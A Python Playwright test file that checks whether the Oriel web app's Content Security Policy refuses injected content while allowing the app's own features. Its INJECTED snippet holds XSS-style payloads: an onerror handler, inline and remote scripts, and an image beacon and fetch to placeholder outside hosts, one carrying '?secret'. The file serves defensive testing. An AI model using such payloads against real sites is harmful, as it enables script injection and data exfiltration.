"""What pages may load and do, in a real browser: nothing of Oriel's is refused, all else is."""

import re

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.app.browser import SHOWN, ask, go, open_menu, opened, ready, rest

pytestmark = pytest.mark.browser
WATCH = """
  window.refused = []
  document.addEventListener("securitypolicyviolation", (event) =>
    window.refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`))
"""
INJECTED = """async () => {
  const frame = document.createElement("div")
  frame.innerHTML = "<img src='data:,' onerror='window.injected = 1'>"
  document.body.append(frame)
  const script = document.createElement("script")
  script.textContent = "window.injected = 2"
  document.body.append(script)
  const far = document.createElement("script")
  far.src = "https://scripts.invalid/a.js"
  document.body.append(far)
  const picture = new Image()
  picture.src = "https://pictures.invalid/?secret"
  setTimeout("window.injected = 3")
  try { await fetch("https://elsewhere.invalid/") } catch {}
  await new Promise((done) => setTimeout(done, 500))
  return [window.injected ?? null, window.refused.map((each) => each.split(" ")[0])]
}"""


def watched(browser: Browser, address: str) -> Page:
    page = opened(browser, "about:blank")
    page.add_init_script(WATCH)
    page.goto(address)
    ready(page)
    return page


def test_nothing_that_oriel_shows_is_refused_by_its_policy(browser: Browser, address: str) -> None:
    page = watched(browser, address)
    ask(page, "How many rooms are on each storey?")
    ask(page, "Which doors lead to the Kitchen?")
    rows = page.locator(SHOWN).get_by_role("button", name=re.compile(r"CSV( \(|$)"))
    picture = page.locator(".oriel-view [data-tool=picture]").first
    for taken in (rows, picture):
        with page.expect_download():
            taken.click()
    open_menu(page)
    page.get_by_role("combobox", name="Colour by").click()
    page.get_by_role("option").nth(1).click()
    rest(page)
    for name in ("Building", "Check", "Explore"):
        go(page, name)
        for tab in page.get_by_role("tab").all():
            tab.click()
            rest(page)
    assert page.evaluate("window.refused") == []


def test_what_is_put_into_the_page_neither_runs_nor_speaks_to_others(
    browser: Browser, address: str
) -> None:
    page = watched(browser, address)
    injected, refused = page.evaluate(INJECTED)
    assert injected is None
    assert set(refused) >= {
        *("script-src-attr", "script-src-elem", "script-src", "img-src", "connect-src"),
    }
    expect(page.locator(".oriel-status").first).to_be_visible()
